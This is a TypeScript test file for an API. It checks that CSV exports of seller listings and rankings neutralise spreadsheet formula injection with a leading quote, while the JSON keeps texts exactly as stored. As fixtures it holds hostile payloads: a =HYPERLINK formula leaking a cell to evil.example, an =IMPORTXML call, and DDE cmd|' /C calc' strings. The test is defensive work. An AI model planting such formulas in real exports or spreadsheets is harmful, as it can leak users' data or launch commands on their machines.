import type { FastifyInstance } from 'fastify';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApi } from '../../src/api/index.ts';
import { backends, freshDatabase, type TestDatabase } from '../helpers/db.ts';
import { A, B, listingId, seedFixture } from './fixture.ts';
import { parseCsv } from './helpers.ts';

/**
 * CSV formula injection (issue 20): anyone who lists a resource writes its title, description,
 * URL and network, and a spreadsheet evaluates a cell that begins with `=`, `+`, `-`, `@`, tab or
 * carriage return. Every catalog text cell of a CSV download that begins with one of them gets a
 * leading `'` (OWASP); the JSON keeps the text exactly. The fixture's generation 1 is served from
 * its catalog snapshot (listings_derived, as every generation since migration 0018), with hostile
 * texts written into catalog_listings as an ingest would store them; the CSV is read back with
 * parseCsv (helpers.ts), not with csv-stringify, and every expected cell below is written out by hand.
 */
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
const CALC = "+cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C calc'!A0";
const AT = "@SUM(1+1)*cmd|' /C calc'!A0";
const TAB = '\t=1+1';
const CR = '\r=1+1';

/** Catalog texts of the fixture's listings 1..7: [resource_url, title, network, description]. */
const HOSTILE: Record<number, [string, string | null, string, string | null]> = {
  1: ['https://l1.example/api', HYPERLINK, 'base', CALC],
  2: ['https://l2.example/api', null, 'eip155:8453', null],
  3: ['https://l3.example/api', MINUS, 'base', 'Chat "quoted" \\ text'],
  4: ['https://l4.example/api', 'Gamma = search', 'base', ' =1+1'], // `=` not first: plain text
  5: [AT, TAB, 'base', CR],
  6: ['https://l6.example/api', null, '-solana', '-'],
  7: ['=IMPORTXML("https://evil.example","//a")', 'Testnet art', '+base-sepolia', 'images'],
};

/** The same cells as the CSV must write them, by hand: a `'` before a leading = + - @ tab CR. */
const EXPECTED_CSV: Record<number, [string, string, string, string]> = {
  1: [
    'https://l1.example/api',
    `'${'=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'}`,
    'base',
    "'+cmd|' /C calc'!A0",
  ],
  2: ['https://l2.example/api', '', 'eip155:8453', ''],
  3: ['https://l3.example/api', "'-2+3+cmd|' /C calc'!A0", 'base', 'Chat "quoted" \\ text'],
  4: ['https://l4.example/api', 'Gamma = search', 'base', ' =1+1'],
  5: ["'@SUM(1+1)*cmd|' /C calc'!A0", "'\t=1+1", 'base', "'\r=1+1"],
  6: ['https://l6.example/api', '', "'-solana", "'-"],
  7: ['\'=IMPORTXML("https://evil.example","//a")', 'Testnet art', "'+base-sepolia", 'images'],
};

describe.each(backends())('CSV formula injection on $backend', ({ backend }) => {
  let db: TestDatabase;
  let app: FastifyInstance;
  let base: string;

  beforeAll(async () => {
    db = await freshDatabase(backend);
    await seedFixture(db.db);
    // Served from the snapshot, like a generation computed since migration 0018 (no stored rows).
    await sql`update generations set listings_derived = true where generation = 1`.execute(db.db);
    await sql`delete from gen_listings_fixed where generation = 1`.execute(db.db);
    for (const [n, [resourceUrl, title, network, description]] of Object.entries(HOSTILE)) {
      await db.db
        .updateTable('catalog_listings')
        .set({ resource_url: resourceUrl, title, network, description })
        .where('listing_id', '=', listingId(Number(n)))
        .execute();
    }
    app = await buildApi(db.db, { rateLimitPerMinute: 100_000, cadenceSeconds: 900 });
    base = await app.listen({ port: 0, host: '127.0.0.1' });
  });
  afterAll(async () => {
    await app?.close();
    await db?.close();
  });

  const csvOf = async (path: string) => {
    const res = await fetch(`${base}${path}`);
    expect(res.status).toBe(200);
    const [header, ...rows] = parseCsv(await res.text());
    return rows.map((r) => Object.fromEntries(header!.map((k, i) => [k, r[i]!])));
  };

  it('default: the directory CSV neutralises resource_url, title, network and description', async () => {
    const rows = await csvOf('/api/v1/sellers?format=csv');
    expect(rows.map((r) => r.listing_id)).toEqual([1, 2, 3, 4, 5, 6, 7].map(listingId));
    for (const [i, row] of rows.entries()) {
      expect([row.resource_url, row.title, row.network, row.description], `listing ${i + 1}`).toEqual(
        EXPECTED_CSV[i + 1],
      );
    }
    // Columns that are not catalog text are written as they are.
    expect(rows[0]).toMatchObject({
      category: 'inference',
      tier: 'verified',
      verified_revenue_30d_micro: '9007199254740993',
    });
    expect(rows[2]!.farm_reasons).toBe('["top_payer_share>0.9"]');
  });

  it('behavior: the JSON of the same rows keeps every text exactly as the catalog gave it', async () => {
    const res = await fetch(`${base}/api/v1/sellers?limit=50`);
    expect(res.status).toBe(200);
    const { listings } = (await res.json()) as { listings: Record<string, unknown>[] };
    expect(listings.map((l) => [l.resource_url, l.title, l.network, l.description])).toEqual(
      [1, 2, 3, 4, 5, 6, 7].map((n) => HOSTILE[n]),
    );
    const rankings = (await (await fetch(`${base}/api/v1/rankings`)).json()) as { rankings: Record<string, unknown>[] };
    expect(rankings.rankings.map((r) => r.display_name)).toEqual([HYPERLINK, MINUS]);
  });

  it('default: the rankings CSV neutralises display_name (the first title of the seller)', async () => {
    const rows = await csvOf('/api/v1/rankings?format=csv');
    expect(rows.map((r) => [r.seller_address, r.display_name, r.categories])).toEqual([
      [A, `'${HYPERLINK}`, 'data-access;inference'],
      [B, `'${MINUS}`, 'inference'],
    ]);
  });

  it('behavior: categories are neutralised as cells; integer cells, even negative, are not', async () => {
    // Values the JSON schema would refuse (a category outside the list, a negative count), so
    // only the CSV, which writes the rows as read, is asked here.
    await db.db
      .updateTable('catalog_listings')
      .set({ category: '=1+1' })
      .where('listing_id', '=', listingId(6))
      .execute();
    await sql`update gen_sellers set categories = array['@evil', 'inference'], listing_count = -3
               where generation = 1 and seller_address = ${B}`.execute(db.db);
    const listings = await csvOf('/api/v1/sellers?format=csv');
    expect(listings[5]!.category).toBe("'=1+1");
    expect(listings[2]!.sibling_listings).toBe('-3'); // seller B's listing_count, an integer
    const rankings = await csvOf('/api/v1/rankings?format=csv');
    expect(rankings[1]).toMatchObject({ seller_address: B, categories: "'@evil;inference", listing_count: '-3' });
  });
});
